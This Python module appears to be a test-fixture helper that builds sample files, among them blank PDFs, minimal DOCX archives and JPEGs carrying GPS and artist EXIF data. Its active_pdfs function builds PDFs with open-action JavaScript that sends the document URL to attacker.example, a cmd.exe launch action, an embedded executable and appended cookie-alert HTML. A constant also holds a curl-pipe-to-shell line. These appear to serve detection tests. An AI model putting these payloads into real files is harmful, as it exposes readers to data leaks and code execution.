"""Real files made on the spot: PDFs (pypdf), DOCX archives, images with EXIF (Pillow)."""

from __future__ import annotations

import io
import zipfile

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

GPS_IFD = 0x8825


def pdf(pages: int = 1, padding: int = 0) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=612, height=792)
    if padding:
        writer.add_metadata({"/Subject": "x" * padding})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _one_page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    return writer


def _action(kind: str, **entries: PdfObject) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): v for k, v in entries.items()}}
    )


def active_pdfs() -> dict[str, bytes]:
    """Résumé-sized PDFs that do something when opened, by what they carry."""
    script = TextStringObject("app.launchURL('https://attacker.example/?' + this.URL)")
    made: dict[str, bytes] = {}

    writer = _one_page()
    writer._root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=script)
    made["open action javascript"] = _written(writer)

    writer = _one_page()
    scripts = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("init"), writer._add_object(_action("/JavaScript", JS=script))]
            )
        }
    )
    names = DictionaryObject({NameObject("/JavaScript"): writer._add_object(scripts)})
    writer._root_object[NameObject("/Names")] = writer._add_object(names)
    made["document javascript"] = _written(writer)

    writer = _one_page()
    launch = _action("/Launch", F=TextStringObject("cmd.exe"))
    writer._root_object[NameObject("/OpenAction")] = launch
    made["launch action"] = _written(writer)

    writer = _one_page()
    page_actions = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS=script)})
    writer.pages[0][NameObject("/AA")] = writer._add_object(page_actions)
    made["page open javascript"] = _written(writer)

    writer = _one_page()
    writer.add_attachment("invoice.exe", b"MZ not really a program")
    made["embedded file"] = _written(writer)

    writer = _one_page()
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 10, 10)]),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    made["file attachment annotation"] = _written(writer)

    page = b"<html><script>alert(document.cookie)</script></html>\n"
    made["html after the pdf"] = pdf() + page  # readers ignore what follows %%EOF
    made["html before the pdf"] = page + pdf()
    return made


def docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def image(fmt: str = "JPEG", size: tuple[int, int] = (640, 480), gps: bool = True) -> bytes:
    """An image whose metadata says where it was taken (a GPS block) and who made it."""
    picture = Image.new("RGB", size, (30, 120, 200))
    exif = Image.Exif()
    exif[0x013B] = "Jane Seeker"  # Artist
    if gps:
        exif[GPS_IFD] = {1: "N", 2: (25.0, 3.0, 0.0), 3: "W", 4: (77.0, 20.0, 0.0)}
    out = io.BytesIO()
    picture.save(out, format=fmt, exif=exif.tobytes())
    return out.getvalue()


SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
